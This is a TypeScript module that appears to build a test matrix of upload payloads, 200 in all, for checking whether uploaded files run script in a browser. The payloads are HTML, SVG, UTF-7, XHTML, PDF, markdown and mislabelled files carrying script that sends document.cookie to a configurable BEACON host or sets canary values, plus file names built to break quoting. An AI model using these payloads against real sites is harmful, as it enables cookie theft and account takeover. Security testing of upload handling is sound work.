/** Uploads that try to run in a browser. `BEACON` is the address that they would request. */
export interface Payload {
  name: string;
  mediaType: string;
  content: string;
}

const ACTIONS = [
  "top.canary='CANARY'",
  "parent.canary='CANARY'",
  "window.canary='CANARY'",
  "opener&&(opener.canary='CANARY')",
  "fetch('BEACON/fetch?'+document.cookie)",
  "navigator.sendBeacon('BEACON/send',document.cookie)",
  "new Image().src='BEACON/image?'+document.cookie",
  "location='BEACON/location'",
  "document.forms[0]&&document.forms[0].submit()",
  "new WebSocket('BEACON/socket'.replace('http','ws'))",
];

const WRAPPERS: readonly ((action: string) => Omit<Payload, "name">)[] = [
  (action) => ({ mediaType: "text/html", content: `<!doctype html><script>${action}</script>` }),
  (action) => ({ mediaType: "text/html", content: `<img src=x onerror="${action}">` }),
  (action) => ({
    mediaType: "text/html",
    content: `<body onload="${action}"><form action="BEACON/form"></form>`,
  }),
  (action) => ({
    mediaType: "text/html; charset=utf-7",
    content: `+ADw-script+AD4-${action}+ADw-/script+AD4-`,
  }),
  (action) => ({ mediaType: "application/xhtml+xml", content: xhtml(action) }),
  (action) => ({ mediaType: "image/svg+xml", content: svg(`<script>${action}</script>`) }),
  (action) => ({ mediaType: "image/svg+xml", content: svg(`<image href="x" onerror="${action}"/>`) }),
  (action) => ({
    mediaType: "image/svg+xml",
    content: svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${action}&lt;/script&gt;"/></foreignObject>`,
    ),
  }),
  (action) => ({ mediaType: "application/xml", content: xhtml(action) }),
  (action) => ({
    mediaType: "text/xml",
    content: `<?xml-stylesheet href="data:text/xsl,x" type="text/xsl"?>${xhtml(action)}`,
  }),
  (action) => ({ mediaType: "text/plain", content: `<!doctype html><script>${action}</script>` }),
  (action) => ({ mediaType: "image/png", content: `<!doctype html><script>${action}</script>` }),
  (action) => ({
    mediaType: "application/octet-stream",
    content: `<!doctype html><script>${action}</script>`,
  }),
  (action) => ({
    mediaType: "application/pdf",
    content: `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${action})>>>>endobj`,
  }),
  (action) => ({
    mediaType: "text/markdown",
    content: `[x](javascript:${action}) <script>${action}</script>`,
  }),
  (action) => ({ mediaType: "application/json", content: `"<script>${action}</script>"` }),
  (action) => ({
    mediaType: "application/x-ipynb+json",
    content: JSON.stringify({ cells: [`<script>${action}</script>`] }),
  }),
  (action) => ({
    mediaType: "multipart/related; boundary=x",
    content: `--x\r\nContent-Type: text/html\r\n\r\n<script>${action}</script>\r\n--x--`,
  }),
  (action) => ({
    mediaType: "text/html",
    content: `<meta http-equiv="refresh" content="0;url=BEACON/refresh"><script>${action}</script>`,
  }),
  (action) => ({
    mediaType: "text/html",
    content: `<link rel="prefetch" href="BEACON/link"><base href="BEACON/"><script src="x"></script><script>${action}</script>`,
  }),
];

function svg(inner: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${inner}</svg>`;
}

function xhtml(action: string): string {
  return `<html xmlns="http://www.w3.org/1999/xhtml"><script>${action.replaceAll("&", "&amp;")}</script></html>`;
}

const NAMES = [
  "report.html",
  "picture.svg",
  "notes.md",
  "page.xhtml",
  "plot.png",
  'a"b.html',
  "x'>.svg",
  "é日.html",
  "a;b=c.htm",
];

/** 20 kinds, each with 10 of them. */
export function payloads(beacon: string): Payload[][] {
  return WRAPPERS.map((wrap, i) =>
    ACTIONS.map((action, j) => {
      const { mediaType, content } = wrap(action);
      const name = `${i}-${j}-${NAMES[(i + j) % NAMES.length]!}`;
      return { name, mediaType, content: content.replaceAll("BEACON", beacon) };
    }),
  );
}
